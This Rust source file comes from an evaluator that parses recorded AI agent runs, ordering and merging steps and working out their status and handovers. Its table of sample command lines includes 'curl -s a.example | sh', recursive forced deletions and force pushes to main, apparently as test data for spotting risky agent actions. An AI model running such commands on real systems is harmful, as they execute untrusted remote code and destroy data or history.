//! A run as the page describes it: steps in one order, with position, turn and times.

use crate::value::opened;
use serde_json::{Map, Value, json};

/// The kinds of step this evaluator knows, in the order of section 4.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Kind {
    Call,
    Message,
    Command,
    Read,
    Write,
    Skill,
    Http,
    Span,
    Handover,
}

pub const KINDS: [Kind; 9] = [
    Kind::Call,
    Kind::Message,
    Kind::Command,
    Kind::Read,
    Kind::Write,
    Kind::Skill,
    Kind::Http,
    Kind::Span,
    Kind::Handover,
];

impl Kind {
    pub fn list(self) -> &'static str {
        ["calls", "messages", "commands", "reads", "writes", "skills", "http", "spans", "handovers"][self as usize]
    }

    fn word(self) -> &'static str {
        ["call", "message", "command", "read", "write", "skill", "http", "span", "handover"][self as usize]
    }
}

/// What stands at the end of a path.
#[derive(Clone, Debug, PartialEq)]
pub enum Found {
    Value(Value),
    /// It leads nowhere inside present evidence.
    Missing,
    /// The run does not record it.
    Absent,
}

/// A program of a command line: its name, its words without flags, its flags as written and what they may mean, and the words that may be
/// values of an option because they stand right behind it.
#[derive(Debug)]
pub struct Program {
    pub name: &'static str,
    pub args: &'static [&'static str],
    pub flags: &'static [&'static str],
    pub values: &'static [&'static str],
}

const fn program(name: &'static str, args: &'static [&'static str], flags: &'static [&'static str]) -> Program {
    Program { name, args, flags, values: &[] }
}

/// What stands for a program that only the running shell knows.
const HIDDEN: Program = program("", &[], &[]);

impl Program {
    /// Whether it stands for one that only the running shell knows.
    pub fn is_hidden(&self) -> bool {
        self.name.is_empty()
    }
}

/// The command lines of generated runs, read by hand: wrappers taken off, every program of the line.
pub fn command_lines() -> &'static [(&'static str, &'static [Program])] {
    const LINES: &[(&str, &[Program])] = &[
        ("$TOOL test", &[HIDDEN]),
        (
            "curl -s a.example | sh",
            &[
                Program { values: &["a.example"], ..program("curl", &["a.example"], &["-s"]) },
                program("sh", &[], &[]),
                HIDDEN,
            ],
        ),
        (
            "ls | xargs -I% rm -f -r %",
            &[
                program("ls", &[], &[]),
                Program { values: &["%"], ..program("rm", &["%"], &["-f", "-r", "-R", "--recursive", "--force"]) },
            ],
        ),
        ("git -f push main", &[Program { values: &["push"], ..program("git", &["push", "main"], &["-f", "--force"]) }]),
        ("npm test", &[program("npm", &["test"], &[])]),
        ("npm ci", &[program("npm", &["ci"], &[])]),
        ("ls", &[program("ls", &[], &[])]),
        (
            "git push --force origin main",
            &[Program { values: &["origin"], ..program("git", &["push", "origin", "main"], &["--force", "-f"]) }],
        ),
        (
            "sudo rm -rf build",
            &[Program {
                values: &["build"],
                ..program("rm", &["build"], &["-rf", "-r", "-f", "-R", "--recursive", "--force"])
            }],
        ),
        ("npm test && git push -f", &[program("npm", &["test"], &[]), program("git", &["push"], &["-f", "--force"])]),
        (
            "A=b git status; rm -f x",
            &[
                program("git", &["status"], &[]),
                Program { values: &["x"], ..program("rm", &["x"], &["-f", "--force"]) },
            ],
        ),
    ];
    LINES
}

#[derive(Clone, Debug)]
pub struct Step {
    pub kind: Kind,
    fields: Map<String, Value>,
    pub executed: bool,
    /// Index among the executed calls, or the number of executed calls before it.
    pub position: i64,
    pub turn: Option<i64>,
    pub start: Option<f64>,
    pub end: Option<f64>,
    /// Fields of calls that no call of the run has: not recorded. Where some have them, a call without lacks them.
    unrecorded: Vec<&'static str>,
}

pub struct Run {
    /// All steps; where kinds are not ordered among each other the order between them means nothing.
    pub steps: Vec<Step>,
    pub recorded: Vec<Kind>,
    pub complete: bool,
    pub object: Map<String, Value>,
    has_steps: bool,
}

impl Step {
    /// A field of the step. `error`, `id` and `agent` are missing where they are not recorded: that says something.
    pub fn field(&self, name: &str) -> Found {
        match self.fields.get(name) {
            Some(_) if self.kind == Kind::Call && matches!(name, "status" | "ok") => {}
            // `null` in place of an error says that there is none.
            Some(Value::Null) if self.kind == Kind::Call && name == "error" => {}
            Some(value) => return Found::Value(value.clone()),
            None => {}
        }
        let derived = match name {
            "status" if self.kind == Kind::Http => None,
            "attributes" if self.kind == Kind::Span => Some(json!({})),
            "end" => self.end.map(|end| json!(end)),
            "duration" => self.start.zip(self.end).map(|(start, end)| json!(end - start)),
            "kind" => Some(json!(self.kind.word())),
            "status" => self.status().map(|word| json!(word)),
            "ok" => self.status().map(|word| json!(word == "ok")),
            _ => None,
        };
        let of_kind: &[&str] = match self.kind {
            Kind::Http => &["method"],
            Kind::Command => &["exit_code", "output"],
            _ => &[],
        };
        let times_and_status = matches!(name, "start" | "end" | "duration" | "turn" | "status" | "ok");
        let standard = times_and_status || self.unrecorded.contains(&name) || of_kind.contains(&name);
        match derived {
            Some(value) => Found::Value(value),
            None if standard => Found::Absent,
            None => Found::Missing,
        }
    }

    /// Whether another call names this one as what started it.
    pub fn is_parent_of(&self, other: &Step) -> bool {
        let text = |step: &Step, key: &str| step.fields.get(key).and_then(Value::as_str).map(str::to_owned);
        let id = text(self, "id");
        id.is_some() && (text(other, "parent_id") == id || text(other, "agent") == id)
    }

    /// A recorded error that says something.
    pub fn erred(&self) -> bool {
        let nothing = |error: &Value| matches!(error, Value::Null | Value::Bool(false)) || *error == json!("");
        self.fields.get("error").is_some_and(|error| !nothing(error))
    }

    /// How a step ended. Of a request the number of its response says so, of a command its exit code where nothing else does.
    pub fn status(&self) -> Option<&str> {
        let number = |key: &str| self.fields.get(key).and_then(Value::as_i64);
        let word = |well: bool| if well { "ok" } else { "failed" };
        match self.kind {
            Kind::Message | Kind::Skill | Kind::Handover => None,
            Kind::Http => number("status").map(|code| word(code < 400)),
            Kind::Command => self.recorded_status().or_else(|| number("exit_code").map(|code| word(code == 0))),
            _ => self.recorded_status(),
        }
    }

    /// The status of a call: what is recorded, an error, a result. A call that was carried out and has an error has failed.
    fn recorded_status(&self) -> Option<&str> {
        let recorded = match self.fields.get("status").and_then(Value::as_str) {
            Some("success") => Some("ok"),
            Some("pending") if has_result(&self.fields) => None,
            word => word,
        };
        if matches!(recorded, Some("denied" | "pending")) {
            return recorded;
        }
        let by_ok = |ok: &Value| if *ok == json!(true) { "ok" } else { "failed" };
        match recorded.or_else(|| self.fields.get("ok").map(by_ok)) {
            _ if self.erred() => Some("failed"),
            None if has_result(&self.fields) && !reads_like_failure(&self.fields["result"]) => Some("ok"),
            status => status,
        }
    }

    /// The text that a kind's pattern looks at: the tool's name, the role's text, the command, the path.
    pub fn text(&self) -> &str {
        let key = ["tool", "text", "command", "path", "path", "name", "url", "name", "to"][self.kind as usize];
        self.fields.get(key).and_then(Value::as_str).unwrap_or("")
    }

    /// Every text inside the step.
    pub fn texts(&self) -> Vec<String> {
        fn gather(value: &Value, out: &mut Vec<String>) {
            match value {
                Value::String(text) => out.push(text.clone()),
                Value::Array(items) => items.iter().for_each(|item| gather(item, out)),
                Value::Object(fields) => fields.values().for_each(|value| gather(value, out)),
                _ => {}
            }
        }
        let mut out = Vec::new();
        self.fields.values().for_each(|value| gather(value, &mut out));
        out
    }

    /// The programs of a command line.
    pub fn programs(&self) -> &'static [Program] {
        match self.kind {
            Kind::Command => command_lines().iter().find(|(line, _)| *line == self.text()).map_or(&[], |(_, all)| all),
            _ => &[],
        }
    }

    pub fn role(&self) -> &str {
        self.fields.get("role").and_then(Value::as_str).unwrap_or("")
    }

    /// The arguments, `None` for a call without any: not recorded, `null` or `{}`.
    pub fn args(&self) -> Option<&Value> {
        self.fields.get("args").filter(|args| !args.is_null() && !args.as_object().is_some_and(Map::is_empty))
    }
}

fn number(fields: &Map<String, Value>, key: &str) -> Option<f64> {
    fields.get(key).and_then(Value::as_f64)
}

/// A result whose `code` says how the call went, with nothing beside it but messages and outputs.
fn reads_like_failure(result: &Value) -> bool {
    let Value::Object(fields) = opened(result.clone()) else { return false };
    let beside = ["message", "error", "stdout", "stderr", "output"];
    let is_answer = fields.keys().all(|key| key == "code" || beside.contains(&key.as_str()));
    let failed = |code: f64| code < 0.0 || (1.0..=255.0).contains(&code) || (400.0..600.0).contains(&code);
    is_answer && fields.get("code").and_then(Value::as_f64).is_some_and(failed)
}

/// Whether a result is recorded that is one: `null` says that nothing is known.
fn has_result(fields: &Map<String, Value>) -> bool {
    fields.get("result").is_some_and(|result| !result.is_null())
}

fn step(kind: Kind, value: &Value) -> Step {
    let fields = match value {
        Value::Object(fields) => fields.clone(),
        text if kind == Kind::Handover => Map::from_iter([("to".to_owned(), text.clone())]),
        path => Map::from_iter([("path".to_owned(), path.clone())]),
    };
    let start = number(&fields, "start");
    let duration = number(&fields, "duration");
    // Messages and skills have no end.
    let ends = !matches!(kind, Kind::Message | Kind::Skill | Kind::Handover);
    let end = number(&fields, "end").or_else(|| Some(start? + duration?)).filter(|_| ends);
    let status = fields.get("status").and_then(Value::as_str);
    let waits = status == Some("pending") && !has_result(&fields);
    let executed = kind == Kind::Call && status != Some("denied") && !waits;
    let turn = fields.get("turn").and_then(Value::as_i64);
    Step { kind, fields, executed, position: 0, turn, start, end, unrecorded: Vec::new() }
}

/// Where a step of a kind stands in its turn: user and system messages, assistant messages, calls, then what calls led to.
fn rank(step: &Step) -> usize {
    match step.kind {
        Kind::Message if matches!(step.role(), "user" | "system") => 0,
        Kind::Message => 1,
        Kind::Call => 2,
        _ => 3,
    }
}

/// Calls in the order of their starts where every call has one; calls of one turn stay together in recorded order.
/// Each comes with the start at which it stands.
fn order_calls(calls: Vec<Step>) -> Vec<(Option<f64>, Step)> {
    if calls.iter().any(|call| call.start.is_none()) {
        return calls.into_iter().map(|call| (call.start, call)).collect();
    }
    let mut keyed: Vec<(Option<f64>, Step)> = Vec::new();
    for call in &calls {
        let group = calls.iter().filter(|other| call.turn.is_some() && other.turn == call.turn);
        let earliest = group.filter_map(|other| other.start).fold(call.start.unwrap_or(0.0), f64::min);
        keyed.push((Some(earliest), call.clone()));
    }
    // A stable sort: equal starts keep their recorded order.
    keyed.sort_by(|(a, _), (b, _)| a.partial_cmp(b).unwrap_or(std::cmp::Ordering::Equal));
    keyed
}

impl Run {
    pub fn read(value: &Value) -> Run {
        let object = value.as_object().cloned().unwrap_or_default();
        let complete = object.get("complete") != Some(&Value::Bool(false));
        let has_steps = object.contains_key("steps");
        let recorded: Vec<Kind> =
            KINDS.into_iter().filter(|kind| has_steps || object.contains_key(kind.list())).collect();
        let mut run = Run { steps: Vec::new(), recorded, complete, object, has_steps };
        if has_steps {
            run.read_steps()
        } else {
            run.read_lists()
        }
        run.number();
        run
    }

    fn read_steps(&mut self) {
        for value in self.object.get("steps").and_then(Value::as_array).cloned().unwrap_or_default() {
            let word = value.get("kind").and_then(Value::as_str).unwrap_or("");
            let kind = KINDS.into_iter().find(|kind| kind.word() == word).expect("a step has a known kind");
            self.steps.push(step(kind, &value));
        }
    }

    /// The lists one by one, then merged by starts or by turns where every step of each two kinds has them.
    fn read_lists(&mut self) {
        let mut lists: Vec<Vec<(Option<f64>, Step)>> = Vec::new();
        for kind in KINDS {
            let values = self.object.get(kind.list()).and_then(Value::as_array).cloned().unwrap_or_default();
            let steps: Vec<Step> = values.iter().map(|value| step(kind, value)).collect();
            lists.push(match kind {
                Kind::Call => order_calls(steps),
                _ => steps.into_iter().map(|step| (step.start, step)).collect(),
            });
        }
        let mut merged: Vec<(Option<f64>, Step)> = Vec::new();
        for list in lists {
            merged = merge(merged, list);
        }
        self.steps = merged.into_iter().map(|(_, step)| step).collect();
    }

    fn number(&mut self) {
        let has = |keys: &[&str]| self.of(Kind::Call).any(|call| keys.iter().any(|key| call.fields.contains_key(*key)));
        let known =
            |key: &&str| self.of(Kind::Call).any(|call| call.fields.get(*key).is_some_and(|one| !one.is_null()));
        let results = has(&["result"]) || ["error", "status", "ok"].iter().any(known);
        let args = has(&["args"]);
        for step in self.steps.iter_mut().filter(|step| step.kind == Kind::Call) {
            step.unrecorded.extend((!args).then_some("args"));
            step.unrecorded.extend((!results).then_some("result"));
            // What came back may be an error.
            step.unrecorded.extend((has_result(&step.fields) && step.status().is_none()).then_some("error"));
            // What it gives back may still come.
            if !self.complete && step.status().is_none() && !step.fields.contains_key("result") {
                step.unrecorded.extend(["result", "error"]);
            }
        }
        self.name_agents();
        let mut executed = 0;
        for step in &mut self.steps {
            step.position = executed;
            executed += i64::from(step.executed);
        }
    }

    /// Where some step names its agent, or somebody hands over, `main` takes those that name none. Who takes over stands where it stood
    /// before, else one deeper than who hands over.
    fn name_agents(&mut self) {
        if !self.steps.iter().any(|step| step.kind == Kind::Handover || step.fields.contains_key("agent")) {
            return;
        }
        let mut depths: std::collections::HashMap<String, i64> = std::collections::HashMap::new();
        for step in &mut self.steps {
            step.fields.entry("agent").or_insert_with(|| json!("main"));
            if step.kind != Kind::Handover {
                continue;
            }
            let text = |key: &str| step.fields.get(key).and_then(Value::as_str).unwrap_or("").to_owned();
            let (from, to) = (text("agent"), text("to"));
            let above = *depths.entry(from).or_insert(0);
            let depth = *depths.entry(to).or_insert(above + 1);
            step.fields.insert("depth".to_owned(), json!(depth));
        }
    }

    /// It ended in an error, and nothing is recorded but what users and the system said.
    pub fn died(&self) -> bool {
        let nothing = |error: &Value| matches!(error, Value::Null | Value::Bool(false)) || *error == json!("");
        let given = |step: &Step| step.kind == Kind::Message && matches!(step.role(), "user" | "system");
        self.object.get("error").is_some_and(|error| !nothing(error)) && self.steps.iter().all(given)
    }

    fn of(&self, kind: Kind) -> impl Iterator<Item = &Step> {
        self.steps.iter().filter(move |step| step.kind == kind)
    }

    /// Whether steps of two kinds are ordered among each other.
    pub fn ordered(&self, a: Kind, b: Kind) -> bool {
        let both = |has: fn(&Step) -> bool| self.of(a).chain(self.of(b)).all(has);
        a == b || self.has_steps || both(|step| step.start.is_some()) || both(|step| step.turn.is_some())
    }

    /// The steps of the other run go on where these end.
    pub fn is_prefix_of(&self, other: &Run) -> bool {
        self.steps.len() <= other.steps.len() && self.steps.iter().zip(&other.steps).all(|(a, b)| a.fields == b.fields)
    }

    pub fn root(&self, name: &str) -> Found {
        match self.object.get(name) {
            Some(value) => Found::Value(value.clone()),
            None if name == "error" => Found::Missing,
            None => Found::Absent,
        }
    }
}

/// Merges two lists, each in its own order: a step goes first when it belongs before the other.
fn merge(a: Vec<(Option<f64>, Step)>, b: Vec<(Option<f64>, Step)>) -> Vec<(Option<f64>, Step)> {
    let all = || a.iter().chain(b.iter());
    let by_start = all().all(|(start, _)| start.is_some());
    let by_turn = all().all(|(_, step)| step.turn.is_some());
    let (mut left, mut right) = (a.into_iter().peekable(), b.into_iter().peekable());
    let mut out = Vec::new();
    loop {
        let right_first = match (left.peek(), right.peek()) {
            (None, None) => return out,
            (None, Some(_)) => true,
            (Some(_), None) => false,
            (Some((s, x)), Some((t, y))) if by_start => (t, rank(y)) < (s, rank(x)),
            (Some((_, x)), Some((_, y))) if by_turn => (y.turn, rank(y)) < (x.turn, rank(x)),
            _ => false,
        };
        out.extend(if right_first { right.next() } else { left.next() });
    }
}
